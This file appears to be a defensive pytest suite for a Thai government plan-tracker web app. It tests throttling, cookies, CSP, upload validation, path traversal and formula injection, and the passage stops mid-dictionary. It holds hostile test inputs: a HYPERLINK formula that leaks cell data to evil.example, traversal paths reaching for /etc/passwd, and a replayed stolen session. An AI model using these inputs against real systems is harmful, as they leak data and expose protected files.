"""Security, tried from outside: login throttling, session cookies, security
headers and the Content-Security-Policy (in a real browser), upload limits by
size and by content, evidence files out of reach, spreadsheet formula
injection, the password policy on every path, and every admin action journaled.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
from datetime import date
from pathlib import Path

import pytest
import requests
import sqlalchemy as sa

from tests.conftest import NOW, PASSWORD, make_user, photograph
from tracker import clock, create_app
from tracker.auth.models import Role, User
from tracker.db import db
from tracker.plans.models import Evidence, JournalEntry
from tracker.security import CSP, limiter

TOKEN_RE = re.compile(r'name="csrf_token" value="([^"]+)"')


@pytest.fixture(autouse=True)
def _fresh_limits(app):
    """Throttling counters start empty and are emptied again (they live in the database)."""
    with app.app_context():
        limiter.reset()
    yield
    with app.app_context():
        limiter.reset()


def fail_login(client, email: str, address: str = "127.0.0.1"):
    return client.post(
        "/login", data={"email": email, "password": "not-the-password-1"}, environ_base={"REMOTE_ADDR": address}
    )


# -- login throttling ---------------------------------------------------------------------------


def test_ten_failed_logins_for_one_email_then_429_even_with_the_right_password(world, client):
    for attempt in range(10):
        # From ten addresses: the email's own limit is what stops the eleventh.
        assert fail_login(client, world.admin.email, f"10.0.0.{attempt}").status_code == 401

    blocked = client.post(
        "/login", data={"email": world.admin.email, "password": PASSWORD}, environ_base={"REMOTE_ADDR": "10.0.1.1"}
    )

    assert blocked.status_code == 429
    seconds = int(blocked.headers["Retry-After"])
    assert 1 <= seconds <= 60
    page = blocked.get_data(as_text=True)
    assert f"โปรดรอ {seconds} วินาที" in page  # Thai only on a Thai page
    assert 'name="password"' in page  # the login form again, with the message
    # Another email from another address is not affected.
    assert fail_login(client, world.manager.email, "10.0.2.1").status_code == 401


def test_ten_failed_logins_from_one_address_then_429_for_any_email(world, client):
    emails = [f"guess{n}@test.go.th" for n in range(10)]
    for email in emails:
        assert fail_login(client, email, "192.0.2.7").status_code == 401

    assert fail_login(client, world.viewer.email, "192.0.2.7").status_code == 429
    assert fail_login(client, world.viewer.email, "192.0.2.8").status_code == 401


def test_successful_logins_are_never_throttled(world, client):
    for _ in range(15):
        response = client.post("/login", data={"email": world.owner_palad.email, "password": PASSWORD})
        assert response.status_code == 302
        client.post("/logout")


def test_throttling_from_outside_over_http(app, world, live_server, monkeypatch):
    monkeypatch.setitem(app.config, "TRACKER_LOGIN_RATE_LIMIT", "3 per minute")
    session = requests.Session()

    def attempt(password: str) -> requests.Response:
        token = TOKEN_RE.search(session.get(f"{live_server}/login", timeout=10).text).group(1)
        return session.post(
            f"{live_server}/login",
            data={"email": world.viewer.email, "password": password, "csrf_token": token},
            allow_redirects=False,
            timeout=10,
        )

    assert [attempt("wrong-password-1").status_code for _ in range(3)] == [401, 401, 401]
    blocked = attempt(PASSWORD)

    assert blocked.status_code == 429 and int(blocked.headers["Retry-After"]) >= 1
    assert "เข้าสู่ระบบไม่สำเร็จหลายครั้งเกินไป" in blocked.text


def test_a_json_client_gets_a_json_429(world, client):
    for _n in range(10):
        fail_login(client, world.admin.email)
    response = client.post(
        "/login", data={"email": world.admin.email, "password": PASSWORD}, headers={"Accept": "application/json"}
    )
    assert response.status_code == 429 and response.get_json()["status"] == 429
    assert "Retry-After" in response.headers


# -- sessions and cookies -------------------------------------------------------------------


def _cookie(response, name: str = "session") -> str:
    return next(c for c in response.headers.getlist("Set-Cookie") if c.startswith(f"{name}="))


def test_the_session_cookie_is_httponly_and_samesite_lax_and_not_secure_over_http(world, client):
    response = client.post("/login", data={"email": world.admin.email, "password": PASSWORD, "remember": "on"})
    session_cookie = _cookie(response)
    remember_cookie = _cookie(response, "remember_token")
    for cookie in (session_cookie, remember_cookie):
        assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
        assert "Secure" not in cookie


@pytest.mark.parametrize(
    "env, secure",
    [
        ({"TRACKER_BASE_URL": "https://ita.example.go.th"}, True),
        ({"TRACKER_BASE_URL": "http://127.0.0.1:5000", "TRACKER_SECURE_COOKIES": "1"}, True),
        ({"TRACKER_BASE_URL": "https://ita.example.go.th", "TRACKER_SECURE_COOKIES": "0"}, False),
    ],
)
def test_cookies_are_secure_behind_https(app, world, monkeypatch, env, secure):
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    other = create_app(
        {"TESTING": True, "SQLALCHEMY_DATABASE_URI": app.config["SQLALCHEMY_DATABASE_URI"], "WTF_CSRF_ENABLED": False}
    )

    response = other.test_client().post("/login", data={"email": world.admin.email, "password": PASSWORD})

    assert response.status_code == 302
    assert ("Secure" in _cookie(response)) is secure
    assert ("Strict-Transport-Security" in response.headers) is env["TRACKER_BASE_URL"].startswith("https")


def test_logging_in_starts_a_new_session(world, client):
    client.get("/login")
    with client.session_transaction() as session:
        session["planted"] = "by someone else"
        token_before = session["csrf_token"]

    client.post("/login", data={"email": world.admin.email, "password": PASSWORD})

    with client.session_transaction() as session:
        assert "planted" not in session
        assert session.get("csrf_token") != token_before
        assert session["_user_id"] == str(world.admin.id)


def test_a_session_moved_to_another_browser_is_dropped(world, live_server):
    session = requests.Session()
    session.headers["User-Agent"] = "Mozilla/5.0 (the officer's browser)"
    token = TOKEN_RE.search(session.get(f"{live_server}/login", timeout=10).text).group(1)
    session.post(
        f"{live_server}/login",
        data={"email": world.manager.email, "password": PASSWORD, "csrf_token": token},
        timeout=10,
    )
    assert session.get(f"{live_server}/my-steps", allow_redirects=False, timeout=10).status_code == 200

    stolen = requests.get(
        f"{live_server}/my-steps",
        cookies=session.cookies,
        allow_redirects=False,
        timeout=10,
        headers={"User-Agent": "curl/8.0 (somewhere else)"},
    )

    assert stolen.status_code == 302 and "/login" in stolen.headers["Location"]


# -- headers --------------------------------------------------------------------------------


EXPECTED_HEADERS = {
    "Content-Security-Policy": CSP,
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "same-origin",
    "X-Frame-Options": "DENY",
}


def test_the_policy_is_the_documented_one():
    directives = dict(d.split(" ", 1) for d in CSP.split("; "))
    assert directives == {
        "default-src": "'self'",
        "script-src": "'self'",
        "style-src": "'self' 'unsafe-inline'",
        "img-src": "'self' data:",
        "font-src": "'self' data:",
        "frame-src": "'self'",
        "object-src": "'none'",
        "base-uri": "'self'",
        "form-action": "'self'",
        "frame-ancestors": "'none'",
    }


def test_every_kind_of_response_carries_the_security_headers(app, world, live_server):
    session = requests.Session()
    token = TOKEN_RE.search(session.get(f"{live_server}/login", timeout=10).text).group(1)
    session.post(
        f"{live_server}/login", data={"email": world.admin.email, "password": PASSWORD, "csrf_token": token}, timeout=10
    )
    urls = [
        "/login",
        "/",
        f"/plans/{world.plan.id}",
        "/static/app.css",
        "/healthz",
        "/no-such-page",
        f"/plans/{world.plan.id}/report.xlsx",
    ]
    for url in urls:
        response = session.get(f"{live_server}{url}", timeout=30)
        for name, value in EXPECTED_HEADERS.items():
            assert response.headers.get(name) == value, (url, name, response.headers.get(name))
        assert "camera=()" in response.headers["Permissions-Policy"]
        assert "Strict-Transport-Security" not in response.headers  # plain http here


def test_templates_hold_no_inline_script_or_event_handler():
    """The CSP forbids them; this finds them before a browser does."""
    root = Path(__file__).resolve().parent.parent / "templates"
    offenders = []
    for path in root.rglob("*.html"):
        if path.parts[-2] == "emails":
            continue  # email bodies are shown only in the outbox's sandboxed frame, where no script runs
        text = path.read_text()
        pattern = r"<script(?![^>]*\bsrc=)[^>]*>|<[^>]*\son[a-z]+\s*=[^>]*>|=\s*[\"']?\s*javascript:"
        for match in re.finditer(pattern, text, re.IGNORECASE):
            offenders.append(f"{path.relative_to(root)}: {match.group(0)}")
    assert offenders == []


# -- uploads --------------------------------------------------------------------------------


def _png(width: int = 1, height: int = 1) -> bytes:
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\x00" * (width + 1) * height))
        + chunk(b"IEND", b"")
    )


def _jpeg(width: int = 2, height: int = 3) -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + sof0 + b"\xff\xd9"


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _docx() -> bytes:
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    return buffer.getvalue()


def _xlsx() -> bytes:
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    return buffer.getvalue()


GENUINE = {
    "ภาพ.png": _png(),
    "ภาพ.jpg": _jpeg(),
    "ภาพ.gif": b"GIF89a\x02\x00\x03\x00\x00\x00\x00;",
    "ภาพ.webp": b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x01\x00\x00\x00" + b"\x00" * 9,
    "บันทึก.docx": _docx(),
    "ตาราง.xlsx": _xlsx(),
    "บันทึก.odt": _zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
    "รวม.zip": _zip({"a.txt": b"a"}),
    "เก่า.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
}
FAKE = {
    "renamed-zip.docx": _zip({"a.txt": b"a"}),
    "xlsx-as-docx.docx": _xlsx(),
    "broken.xlsx": b"PK\x03\x04" + b"\x00" * 200,
    "signature-only.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,
    "zero-size.png": _png(0, 0)[:33],
    "soi-only.jpg": b"\xff\xd8\xff" + b"\x00" * 100,
    "bad.gif": b"GIF89a\x00\x00\x00\x00",
    "riff-wave.webp": b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 30,
    "no-mimetype.odt": _zip({"content.xml": b"<x/>"}),
    "broken.zip": b"PK\x03\x04" + b"garbage" * 20,
    "half-ole.doc": b"\xd0\xcf\x11\xe0" + b"\x00" * 100,
}


def _upload(client, step, name: str, content: bytes):
    return client.post(
        f"/steps/{step.id}/evidence",
        data={"kind": "file", "file": (io.BytesIO(content), name)},
        content_type="multipart/form-data",
    )


@pytest.mark.parametrize("name", sorted(GENUINE))
def test_genuine_files_of_each_allowed_type_are_accepted(app, world, login, name):
    step = world.step(world.m1, 1)
    response = _upload(login(world.owner_palad), step, name, GENUINE[name])
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    assert db.session.scalar(sa.select(Evidence.original_name).where(Evidence.step_id == step.id)) == name


@pytest.mark.parametrize("name", sorted(FAKE))
def test_files_whose_content_does_not_match_their_type_are_refused(app, world, login, name):
    folder = Path(app.config["TRACKER_UPLOAD_DIR"])
    folder.mkdir(parents=True, exist_ok=True)
    before = set(folder.iterdir())

    response = _upload(login(world.owner_palad), world.step(world.m1, 1), name, FAKE[name])

    assert response.status_code == 400
    assert "เนื้อหาไฟล์" in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Evidence)) == 0
    assert set(folder.iterdir()) == before  # nothing left behind


def test_an_oversized_upload_from_outside_gets_413(app, world, live_server, monkeypatch):
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 1024 * 1024)
    session = requests.Session()
    token = TOKEN_RE.search(session.get(f"{live_server}/login", timeout=10).text).group(1)
    session.post(
        f"{live_server}/login",
        data={"email": world.owner_palad.email, "password": PASSWORD, "csrf_token": token},
        timeout=10,
    )
    token = TOKEN_RE.search(session.get(f"{live_server}/my-steps", timeout=10).text).group(1)
    boundary = "----tracker-test-boundary"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n'
            f'--{boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nfile\r\n'
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n'
            f"Content-Type: application/pdf\r\n\r\n"
        ).encode()
        + b"%PDF-1.4\n"
        + b"0" * (1024 * 1024 + 10)
        + (f"\r\n--{boundary}--\r\n").encode()
    )

    response = session.post(
        f"{live_server}/steps/{world.step(world.m1, 1).id}/evidence",
        data=body,
        headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
        timeout=30,
    )

    assert response.status_code == 413
    assert "ไฟล์ใหญ่เกิน 1 MB" in response.text
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Evidence)) == 0


# -- evidence files out of reach --------------------------------------------------------------


def test_evidence_is_stored_outside_every_served_folder_under_a_random_name(app, world, login):
    client = login(world.owner_palad)
    assert _upload(client, world.step(world.m1, 1), "ประกาศ.pdf", b"%PDF-1.4\n%%EOF\n").status_code == 302
    ev = db.session.scalar(sa.select(Evidence))
    upload_dir = Path(app.config["TRACKER_UPLOAD_DIR"]).resolve()

    assert not upload_dir.is_relative_to(Path(app.static_folder).resolve())
    assert not upload_dir.is_relative_to(Path(app.template_folder).resolve())
    assert re.fullmatch(r"[0-9a-f]{32}\.pdf", ev.stored_name) and len(ev.sha256) == 64
    assert (upload_dir / ev.stored_name).read_bytes() == b"%PDF-1.4\n%%EOF\n"
    shown = client.get(f"/evidence/{ev.id}")  # a PDF opens in the browser, sandboxed
    assert shown.headers["Content-Disposition"].startswith("inline")
    assert shown.headers["Content-Security-Policy"].startswith("sandbox")
    assert shown.headers["X-Content-Type-Options"] == "nosniff"
    assert client.get(f"/evidence/{ev.id}?download=1").headers["Content-Disposition"].startswith("attachment")


def test_evidence_is_reachable_only_through_the_checked_view(app, world, login, live_server):
    assert (
        _upload(login(world.owner_palad), world.step(world.m1, 1), "ประกาศ.pdf", b"%PDF-1.4\n%%EOF\n").status_code
        == 302
    )
    ev = db.session.scalar(sa.select(Evidence))

    for url in (
        f"/static/{ev.stored_name}",
        f"/static/../evidence/{ev.stored_name}",
        f"/{ev.stored_name}",
        f"/evidence/{ev.stored_name}",
    ):
        assert requests.get(f"{live_server}{url}", timeout=10).status_code == 404, url
    anonymous = requests.get(f"{live_server}/evidence/{ev.id}", allow_redirects=False, timeout=10)
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]


@pytest.mark.parametrize(
    "path",
    [
        "/static/../tracker/config.py",
        "/static/%2e%2e/%2e%2e/pyproject.toml",
        "/static/..%2f..%2fpyproject.toml",
        "/static/%2e%2e%2fsecurity.py",
        "/static//etc/passwd",
        "/static/..\\..\\pyproject.toml",
    ],
)
def test_static_paths_cannot_climb_out(app, live_server, path):
    # Raw, unnormalised paths straight to the server.
    import http.client

    host, port = live_server.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=10)
    connection.putrequest("GET", path, skip_accept_encoding=True)
    connection.endheaders()
    response = connection.getresponse()
    body = response.read()
    connection.close()
    assert response.status in (404, 400, 308), (path, response.status)
    if response.status == 308:  # "//" merged: the redirect stays inside /static/, which then has no such file
        location = response.getheader("Location")
        assert location.startswith("/static/") or "/static/" in location
        assert requests.get(f"{live_server}/static/etc/passwd", timeout=10).status_code == 404
    assert b"SECRET" not in body and b"[project]" not in body and b"root:" not in body


# -- spreadsheet formula injection ------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
FORMULA_START = ("=", "+", "-", "@")


#: The only formulas a writer may put in: the follow-up report's own totals over its number cells.
OWN_TOTALS = re.compile(
    r"=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|IF\([A-Z]+\d+=0,0,IF\([A-Z]+\d+>=[A-Z]+\d+,100,"
    r"MIN\(99,ROUND\([A-Z]+\d+/[A-Z]+\d+\*100,0\)\)\)\))"
)


def assert_no_formula(body: bytes, totals_sheet: str | None = None) -> int:
    """No cell is a formula (but the report's own totals on `totals_sheet`), and every text that looks
    like one is marked as text."""
    from openpyxl import load_workbook

    hostile = 0
    for ws in load_workbook(io.BytesIO(body)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert ws.title == totals_sheet and OWN_TOTALS.fullmatch(cell.value), (ws.title, cell.value)
                    continue
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    hostile += 1
                    assert cell.value.startswith("'") or cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    return hostile


def _poison(world) -> None:
    world.plan.title = HOSTILE
    world.m1.title = "+" + HOSTILE
    world.step(world.m1, 1).title = "@" + HOSTILE
    world.palad.name = "-" + HOSTILE
    db.session.commit()


def test_plan_export_keeps_hostile_text_as_text(world, login):
    _poison(world)
    from tracker.plans.exporter import export_plan_xlsx

    assert assert_no_formula(export_plan_xlsx(world.plan)) >= 3


def test_followup_report_xlsx_keeps_hostile_text_as_text(world, login):
    _poison(world)
    response = login(world.manager).get(f"/plans/{world.plan.id}/report.xlsx?as_of=2023-08-01")
    assert response.status_code == 200
    assert assert_no_formula(response.data, totals_sheet="สรุป") >= 3


def test_province_overview_xlsx_keeps_hostile_text_as_text(world, login, monkeypatch):
    pytest.importorskip("tracker.province.services")
    monkeypatch.setattr(clock, "now", lambda: NOW)
    world.org.name = HOSTILE
    office = world.org.__class__(name="กรมส่งเสริมการปกครองท้องถิ่น", slug="dla-test", province="")
    db.session.add(office)
    national = make_user(office, "national@dla.go.th", Role.national)
    db.session.commit()

    response = login(national).get("/province.xlsx")

    assert response.status_code == 200
    assert assert_no_formula(response.data) >= 1


def test_an_ita_framework_workbook_keeps_hostile_text_as_text():
    from tracker.ita.spec_files import parse_yaml, spec_to_xlsx

    shipped = (Path(__file__).resolve().parent.parent / "tracker" / "ita" / "frameworks" / "2565.yaml").read_text()
    spec = parse_yaml(shipped.replace("name: การปฏิบัติหน้าที่", f"name: '{HOSTILE}'", 1))
    assert assert_no_formula(spec_to_xlsx(spec)) >= 1


def test_every_spreadsheet_writer_is_covered_here():
    """A new openpyxl writer must get a formula-injection test above."""
    root = Path(__file__).resolve().parent.parent / "tracker"
    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py") if "Workbook(" in p.read_text())
    covered = {"plans/exporter.py", "reports/followup_xlsx.py", "province/export.py", "ita/spec_files.py"}
    assert set(writers) <= covered, f"add a formula-injection test for {sorted(set(writers) - covered)}"


# -- the password policy on every path ---------------------------------------------------------

WEAK = ["short1", "onlyletters", "12345678901"]


@pytest.mark.parametrize("weak", WEAK)
def test_the_password_policy_applies_to_every_way_of_setting_a_password(app, world, login, weak):
    admin = login(world.admin)
    created = admin.post(
        "/admin/users/new",
        data={
            "email": "new.person@test.go.th",
            "display_name": "คนใหม่",
            "role": "viewer",
            "password": weak,
            "password_confirm": weak,
        },
    )
    reset = admin.post(
        f"/admin/users/{world.viewer.id}/password", data={"new_password": weak, "new_password_confirm": weak}
    )
    own = login(world.viewer).post(
        "/profile",
        data={"action": "password", "current_password": PASSWORD, "new_password": weak, "confirm_password": weak},
    )
    runner = app.test_cli_runner()
    cli_reset = runner.invoke(args=["set-password", world.viewer.email, "--password-stdin"], input=weak + "\n")

    for response in (created, reset, own):
        assert response.status_code == 400 and "อย่างน้อย 8 ตัวอักษร" in response.get_data(as_text=True)
    assert cli_reset.exit_code == 1 and "อย่างน้อย 8 ตัวอักษร" in cli_reset.output
    if "user" in app.cli.commands:  # the operator's `tracker user create`
        cli_create = runner.invoke(
            args=[
                "user",
                "create",
                "--org",
                world.org.slug,
                "--email",
                "cli@test.go.th",
                "--name",
                "คนใหม่",
                "--role",
                "viewer",
                "--password",
                weak,
            ]
        )
        assert cli_create.exit_code == 1
    assert db.session.scalar(sa.select(sa.func.count()).select_from(User)) == 5
    assert login(world.viewer).get("/my-steps").status_code == 200  # the old password still works


def test_the_operator_resets_a_password_from_the_command_line(app, world, client):
    result = app.test_cli_runner().invoke(
        args=["set-password", world.admin.email.upper(), "--password-stdin"], input="new-secret-2567\n"
    )

    assert result.exit_code == 0, result.output
    assert client.post("/login", data={"email": world.admin.email, "password": "new-secret-2567"}).status_code == 302
    entry = db.session.scalar(sa.select(JournalEntry).where(JournalEntry.action == "password_reset"))
    assert (entry.entity, entry.entity_id, entry.old_value, entry.new_value) == ("user", world.admin.id, None, None)
    missing = app.test_cli_runner().invoke(
        args=["set-password", "nobody@test.go.th", "--password-stdin"], input="new-secret-2567\n"
    )
    assert missing.exit_code == 1 and "nobody@test.go.th" in missing.output


# -- the Content-Security-Policy in a real browser ------------------------------------------------

CSP_LISTENER = """
document.addEventListener('securitypolicyviolation', (e) => {
  console.error('CSP violation: ' + e.violatedDirective + ' blocked ' + e.blockedURI + ' at ' + e.sourceFile);
});
"""


def test_the_main_pages_run_under_the_policy_without_a_violation(app, ctx, browser_page, artifacts_dir):
    """Every main page, as an admin, in Chromium: no CSP report, and the features that
    used to need inline script (select-on-focus, the outbox's email frame) still work."""
    from tracker.demo import DEMO_PASSWORD, add_demo_progress, load_demo
    from tracker.notify.outbox import enqueue

    plan = load_demo(NOW).plan
    add_demo_progress(plan, date(2023, 8, 1))
    admin = db.session.scalar(sa.select(User).where(User.email == "admin@banpet.example"))
    message = enqueue(
        organization_id=plan.organization_id,
        about=f"org:{plan.organization_id}",
        kind="reminder",
        for_date=date(2023, 8, 1),
        recipient="palad@example.go.th",
        subject="แจ้งเตือน",
        body_text="เรียนเจ้าหน้าที่",
        body_html='<style>p.greet { color: #245; }</style><p class="greet">เรียนเจ้าหน้าที่ผู้รับผิดชอบ</p>',
    )
    admin.calendar_token = "c" * 43
    db.session.commit()
    step = plan.steps[0]

    page = browser_page(enforce_csp=True)
    problems: list[str] = []
    page.on(
        "console",
        lambda msg: (
            problems.append(msg.text) if "Content Security Policy" in msg.text or "CSP violation" in msg.text else None
        ),
    )
    page.add_init_script(CSP_LISTENER)

    page.goto("/login")
    page.get_by_label("อีเมล").fill(admin.email)
    page.get_by_label("รหัสผ่าน").fill(DEMO_PASSWORD)
    page.get_by_role("button", name="เข้าสู่ระบบ").click()
    page.wait_for_url(re.compile(r".*/$"))
    urls = [
        "/",
        f"/plans/{plan.id}",
        f"/measures/{step.measure_id}",
        f"/steps/{step.id}",
        "/my-steps",
        "/profile",
        "/admin/",
        f"/admin/plans/{plan.id}",
        "/admin/users",
        "/admin/notifications",
        "/admin/outbox",
        f"/admin/outbox/{message.id}",
        "/ita/2565",
        f"/plans/{plan.id}/report",
        f"/measures/{step.measure_id}/result",
        "/profile/calendar",
        "/no-such-page",
    ]
    for url in urls:
        response = page.goto(url)
        assert response.status == (404 if url == "/no-such-page" else 200), url
        if url == f"/admin/outbox/{message.id}":
            frame = page.frame_locator("iframe[srcdoc]")
            assert frame.locator("p.greet").inner_text() == "เรียนเจ้าหน้าที่ผู้รับผิดชอบ"
            assert frame.locator("p.greet").evaluate("e => getComputedStyle(e).color") == "rgb(34, 68, 85)"
            photograph(page, artifacts_dir / "outbox-message-csp.png", full_page=True)
        if url == "/profile/calendar":
            page.locator("#user-url").focus()
            assert page.evaluate(
                "document.getSelection().toString() || "
                "(document.activeElement.selectionEnd - document.activeElement.selectionStart)"
            )
    assert problems == []
    # The policy really is in force: an inline script injected now is refused and reported.
    page.goto("/")
    page.evaluate("""() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1';
                              document.body.appendChild(s); }""")
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") is None
    assert problems, "an injected inline script should have been reported"


# -- every admin action is journaled ------------------------------------------------------------


class _Forms:
    """The forms of a page with the values a browser would send unchanged."""

    def __init__(self, html: str):
        from html.parser import HTMLParser

        forms: list[dict] = []

        class Parser(HTMLParser):
            form = None
            select = None
            textarea = None

            def handle_starttag(self, tag, attrs):
                a = dict(attrs)
                if tag == "form":
                    self.form = {
                        "action": a.get("action") or "",
                        "method": (a.get("method") or "get").lower(),
                        "fields": {},
                    }
                    forms.append(self.form)
                elif self.form is None:
                    return
                elif tag == "input" and a.get("name") and a.get("type") not in ("submit", "button", "file"):
                    if a.get("type") in ("checkbox", "radio") and "checked" not in a:
                        return
                    self.form["fields"][a["name"]] = a.get("value") or ("on" if a.get("type") == "checkbox" else "")
                elif tag == "select" and a.get("name"):
                    self.select = a["name"]
                elif tag == "option" and self.select:
                    if "selected" in a or self.select not in self.form["fields"]:
                        self.form["fields"][self.select] = a.get("value", "")
                elif tag == "textarea" and a.get("name"):
                    self.textarea = a["name"]
                    self.form["fields"][self.textarea] = ""

            def handle_endtag(self, tag):
                if tag == "form":
                    self.form = None
                elif tag == "select":
                    self.select = None
                elif tag == "textarea":
                    self.textarea = None

            def handle_data(self, data):
                if self.textarea and self.form is not None:
                    self.form["fields"][self.textarea] += data

        Parser().feed(html)
        self.forms = [f for f in forms if f["method"] == "post"]

    def matching(self, action: str) -> dict:
        found = [f for f in self.forms if re.fullmatch(action, f["action"])]
        assert found, f"no form posting to {action} among {[f['action'] for f in self.forms]}"
        return dict(found[0]["fields"])


class Demo:
    def __init__(self):
        from tracker.demo import load_demo
        from tracker.ita.demo import load_demo_scores
        from tracker.orgs.models import Department

        self.plan = load_demo(NOW).plan
        load_demo_scores(self.plan.organization, NOW)
        db.session.commit()
        users = {
            u.email.split("@")[0]: u
            for u in db.session.scalars(sa.select(User).where(User.organization_id == self.plan.organization_id))
        }
        self.admin, self.manager, self.viewer = users["admin"], users["manager"], users["viewer"]
        self.department = db.session.scalars(
            sa.select(Department).where(Department.organization_id == self.plan.organization_id)
        ).first()
        self.weakness = self.plan.weaknesses[0]
        self.measure = self.weakness.measures[0]
        self.step = self.measure.steps[0]


def _empty_weakness(d: Demo):
    from tracker.plans import structure

    weakness = structure.add_weakness(d.plan, d.admin, NOW, title="ประเด็นที่จะลบ")
    db.session.commit()
    return None, f"/admin/weaknesses/{weakness.id}/delete", {}, None


def _ita_file(d: Demo):
    csv = f"organization,fiscal_year,indicator,score,label,level\n{d.plan.organization.slug},2565,1,66.5,,\n"
    return None, "/ita/import", {"year": "2565"}, {"file": (io.BytesIO(csv.encode()), "scores.csv")}


def _failed_message(d: Demo):
    from tracker.notify.models import OutboxStatus
    from tracker.notify.outbox import enqueue

    row = enqueue(
        organization_id=d.plan.organization_id,
        about="org",
        kind="reminder",
        for_date=date(2023, 8, 1),
        recipient="palad@example.go.th",
        subject="แจ้งเตือน",
        body_text="x",
        body_html="<p>x</p>",
    )
    row.status, row.last_error = OutboxStatus.failed, "550 no such user"
    db.session.commit()
    return None, f"/admin/outbox/{row.id}/resend", {}, None


def _published(d: Demo):
    from flask import current_app

    from tracker.public.services import publish_report

    [report] = publish_report(
        d.plan,
        d.admin,
        NOW,
        kind="followup",
        formats=["xlsx"],
        upload_dir=current_app.config["TRACKER_UPLOAD_DIR"],
        as_of=date(2023, 8, 1),
    )
    db.session.commit()
    return None, f"/plans/{d.plan.id}/published/{report.id}/withdraw", {"reason": "แก้ไขตัวเลข"}, None


def _submission(d: Demo):
    from tracker.reports.signoff import submit_report

    submission = submit_report(d.plan, d.admin, NOW, kind="followup", chain=[d.manager], as_of=date(2023, 8, 1))
    db.session.commit()
    return None, f"/reports/submissions/{submission.id}/withdraw", {"reason": "ส่งผิดฉบับ"}, None


#: endpoint → d → (page to read the form from or None, action, changed or extra fields, files)
ADMIN_ACTIONS = {
    "admin.plan_new": lambda d: (
        "/admin/plans/new",
        "/admin/plans/new",
        {"fiscal_year": "2567", "title": "แผน 2567"},
        None,
    ),
    "admin.plan": lambda d: (f"/admin/plans/{d.plan.id}", f"/admin/plans/{d.plan.id}", {"title": "แผนที่แก้ไขแล้ว"}, None),
    "admin.weakness_new": lambda d: (
        f"/admin/plans/{d.plan.id}/weaknesses/new",
        ".*/weaknesses/new",
        {"title": "ประเด็นใหม่"},
        None,
    ),
    "admin.weakness": lambda d: (
        f"/admin/weaknesses/{d.weakness.id}",
        f"/admin/weaknesses/{d.weakness.id}",
        {"title": "ประเด็นที่แก้ไข"},
        None,
    ),
    "admin.weakness_delete": _empty_weakness,
    "admin.measure_new": lambda d: (
        f"/admin/weaknesses/{d.weakness.id}/measures/new",
        ".*/measures/new",
        {
            "title": "มาตรการใหม่",
            "owner_department": str(d.department.id),
            "period_start": "2023-07-01",
            "period_end": "2023-09-30",
            "follow_up": "รายงานผล",
        },
        None,
    ),
    "admin.measure": lambda d: (
        f"/admin/measures/{d.measure.id}",
        f"/admin/measures/{d.measure.id}",
        {"title": "มาตรการที่แก้ไข"},
        None,
    ),
    "admin.measure_delete": lambda d: (
        None,
        f"/admin/measures/{d.plan.weaknesses[-1].measures[-1].id}/delete",
        {},
        None,
    ),
    "admin.step_new": lambda d: (
        f"/admin/measures/{d.measure.id}/steps/new",
        ".*/steps/new",
        {"title": "ขั้นตอนใหม่", "due_date": d.measure.period_end.isoformat()},
        None,
    ),
    "admin.step": lambda d: (f"/admin/steps/{d.step.id}", f"/admin/steps/{d.step.id}", {"title": "ขั้นตอนที่แก้ไข"}, None),
    "admin.step_delete": lambda d: (None, f"/admin/steps/{d.step.id}/delete", {}, None),
    "admin.department_new": lambda d: (
        "/admin/departments/new",
        "/admin/departments/new",
        {"name": "กองช่าง", "email": "chang@example.go.th"},
        None,
    ),
    "admin.department": lambda d: (
        f"/admin/departments/{d.department.id}",
        f"/admin/departments/{d.department.id}",
        {"name": "หน่วยงานที่แก้ชื่อ"},
        None,
    ),
    "admin.user_new": lambda d: (
        "/admin/users/new",
        "/admin/users/new",
        {
            "email": "new.viewer@banpet.example",
            "display_name": "ผู้ดูคนใหม่",
            "role": "viewer",
            "password": "new-pass-2566",
            "password_confirm": "new-pass-2566",
        },
        None,
    ),
    "admin.user": lambda d: (
        f"/admin/users/{d.viewer.id}",
